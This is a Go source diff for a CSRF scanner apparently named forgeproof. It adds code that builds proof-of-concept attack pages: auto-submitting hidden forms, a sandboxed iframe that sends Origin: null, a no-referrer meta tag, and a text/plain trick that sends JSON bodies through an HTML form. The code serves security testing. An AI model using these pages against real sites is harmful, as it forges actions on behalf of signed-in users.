@@ -1,0 +1,119 @@
+package checks
+
+import (
+	"encoding/json"
+	"html"
+	"net/url"
+	"strings"
+)
+
+// PoC returns a self-contained HTML page that replays probe ex of op from
+// an attacker's page: an auto-submitting form (or a navigation for GET),
+// inside a sandboxed frame for Origin: null. Open it in a browser that is
+// signed in to the target.
+func PoC(op *Op, ex *Exchange) string {
+	r := ex.Request
+	var b strings.Builder
+	b.WriteString("<!doctype html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n")
+	if ex.Probe == ProbeNoReferer || ex.Probe == ProbeFetchMetadata {
+		b.WriteString("<meta name=\"referrer\" content=\"no-referrer\">\n")
+	}
+	b.WriteString("<title>forgeproof proof of concept: " + html.EscapeString(op.Method+" "+op.Path) + " (" + ex.Probe + ")</title>\n</head>\n<body>\n")
+	switch ex.Probe {
+	case ProbeSameSite:
+		b.WriteString("<!-- Host this page on a sibling subdomain of the target, such as " + html.EscapeString(r.Header.Get("Origin")) + ". -->\n")
+	case ProbeFetchMetadata:
+		b.WriteString("<!-- Browsers that send Sec-Fetch-Site also send Origin; this page reproduces the request as closely as a browser can. -->\n")
+	case ProbeOverrideHeader:
+		b.WriteString("<!-- A page can set X-HTTP-Method-Override only through fetch() with a CORS preflight the target approves. -->\n")
+	}
+	form := pocForm(r)
+	if ex.Probe == ProbeOriginNull {
+		b.WriteString("<iframe sandbox=\"allow-scripts allow-forms\" srcdoc=\"" + html.EscapeString(form) + "\"></iframe>\n")
+	} else {
+		b.WriteString(form)
+	}
+	b.WriteString("</body>\n</html>\n")
+	return b.String()
+}
+
+// pocForm returns an auto-submitting form that sends r's method, URL and
+// body as closely as an HTML form can.
+func pocForm(r *Request) string {
+	var b strings.Builder
+	action := *r.URL
+	method := "POST"
+	if r.Method == "GET" {
+		method = "GET"
+	}
+	var fields [][2]string
+	enctype := ""
+	ct := r.Header.Get("Content-Type")
+	switch {
+	case method == "GET":
+		for k, vs := range action.Query() {
+			for _, v := range vs {
+				fields = append(fields, [2]string{k, v})
+			}
+		}
+		action.RawQuery = ""
+	case strings.HasPrefix(ct, "text/plain"):
+		enctype = "text/plain"
+		fields = textPlainFields(r.Body)
+	default:
+		vals, _ := url.ParseQuery(string(r.Body))
+		for k, vs := range vals {
+			for _, v := range vs {
+				fields = append(fields, [2]string{k, v})
+			}
+		}
+	}
+	sortFields(fields)
+	b.WriteString("<form id=\"f\" method=\"" + method + "\" action=\"" + html.EscapeString(action.String()) + "\"")
+	if enctype != "" {
+		b.WriteString(" enctype=\"" + enctype + "\"")
+	}
+	b.WriteString(">\n")
+	for _, f := range fields {
+		b.WriteString("<input type=\"hidden\" name=\"" + html.EscapeString(f[0]) + "\" value=\"" + html.EscapeString(f[1]) + "\">\n")
+	}
+	b.WriteString("</form>\n<script>document.getElementById(\"f\").submit()</script>\n")
+	return b.String()
+}
+
+// textPlainFields splits a text/plain body into one form field whose
+// name=value serialization is exactly the body: a form with
+// enctype="text/plain" joins name and value with "=". The scanner builds
+// such bodies so that they contain an "=" (see [TextPlainJSON]).
+func textPlainFields(body []byte) [][2]string {
+	s := string(body)
+	if i := strings.IndexByte(s, '='); i >= 0 {
+		return [][2]string{{s[:i], s[i+1:]}}
+	}
+	return [][2]string{{s, ""}}
+}
+
+// TextPlainJSON returns the body an HTML form with enctype="text/plain" can
+// send for the JSON object body: the object with one extra member whose
+// value holds the "=" the form inserts. ok is false when body is not a JSON
+// object.
+func TextPlainJSON(body []byte) ([]byte, bool) {
+	s := strings.TrimSpace(string(body))
+	var obj map[string]any
+	if err := json.Unmarshal([]byte(s), &obj); err != nil || !strings.HasSuffix(s, "}") {
+		return nil, false
+	}
+	sep := ","
+	if len(obj) == 0 {
+		sep = ""
+	}
+	return []byte(s[:len(s)-1] + sep + `"forgeproof_pad":"="}`), true
+}
+
+func sortFields(f [][2]string) {
+	for i := 1; i < len(f); i++ {
+		for j := i; j > 0 && f[j][0] < f[j-1][0]; j-- {
+			f[j], f[j-1] = f[j-1], f[j]
+		}
+	}
+}
